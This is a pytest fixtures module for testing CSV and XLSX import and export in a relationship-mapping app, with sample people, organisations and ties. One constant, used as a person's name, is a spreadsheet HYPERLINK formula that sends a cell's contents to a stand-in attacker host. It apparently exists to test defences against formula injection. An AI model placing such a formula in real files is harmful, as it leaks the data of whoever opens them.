"""Fixtures for file import and export: a sample map on both stores, and file builders."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest

from graph_models.model import (
    DEFAULT_SILOS,
    Map,
    Organisation,
    OrganisationKind,
    Person,
    Relationship,
    Silo,
    Visibility,
)

MAP = "m"
SECRET = b"test-secret"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def new_map(store, map_id: str = MAP, silos=DEFAULT_SILOS) -> str:
    store.create_map(Map(map_id, f"Map {map_id}", "a test map", [Silo(n, c) for n, c in silos]))
    return map_id


def sample():
    """People (every consent, Welsh letters, formula-like text), organisations, ties."""
    people = [
        Person(
            "ann",
            "Ann Evans",
            "health",
            role="GP",
            area="Rhondda",
            tags=["gp", "locality:north"],
            contact="ann@example.org",
        ),
        Person("bryn", "Bryn Ŵyn", "housing", role="Warden", visibility=Visibility.ANONYMISED),
        Person("cerys", HYPERLINK, "police", contact="+44 1234 567890"),
        Person("dai", "Dai Hidden", "health", visibility=Visibility.HIDDEN),
        *[Person(f"h{i}", f"Housing {i}", "housing") for i in range(5)],
    ]
    orgs = [
        Organisation("clinic", "Cwm Clinic", "health", OrganisationKind.STATUTORY, tags=["nhs"]),
        Organisation("bank", "Valleys Food Bank", "third sector", OrganisationKind.THIRD_SECTOR),
    ]
    ties = [
        Relationship(
            "t1",
            "ann",
            "bryn",
            "knows",
            4,
            date(2024, 3, 1),
            notes="met @ forum",
            origin="survey",
            reported_by=["ann", "bryn"],
        ),
        Relationship("t2", "ann", "bryn", "works_with", 2),  # a second tie, same pair
        Relationship("t3", "ann", "clinic", "works_for", 5, date(2019, 9, 1), date(2025, 3, 31)),
        Relationship("t4", "clinic", "bank", "funds", 3, notes="-5% next year", evidence="report"),
        Relationship("t5", "dai", "ann", "mentors", 3),
        Relationship("t6", "h0", "bryn", "knows", 1, origin="import", reported_by=["h0"]),
    ]
    return people, orgs, ties


@pytest.fixture
def loaded(store):
    """The sample map, written to the store under test."""
    new_map(store)
    people, orgs, ties = sample()
    store.bulk_upsert(MAP, [*people, *orgs], ties)
    return MAP


def version(store, map_id: str = MAP) -> int:
    return store.get_map(map_id).version


def csv_file(text: str, encoding: str = "utf-8") -> io.BytesIO:
    return io.BytesIO(text.encode(encoding))


def xlsx_file(sheets: dict[str, list[list]], setup=None) -> io.BytesIO:
    """An XLSX workbook with these sheets (rows of values; ``setup(wb)`` may edit it)."""
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets.items():
        ws = wb.create_sheet(title)
        for row in rows:
            ws.append(row)
    if setup:
        setup(wb)
    buffer = io.BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    return buffer
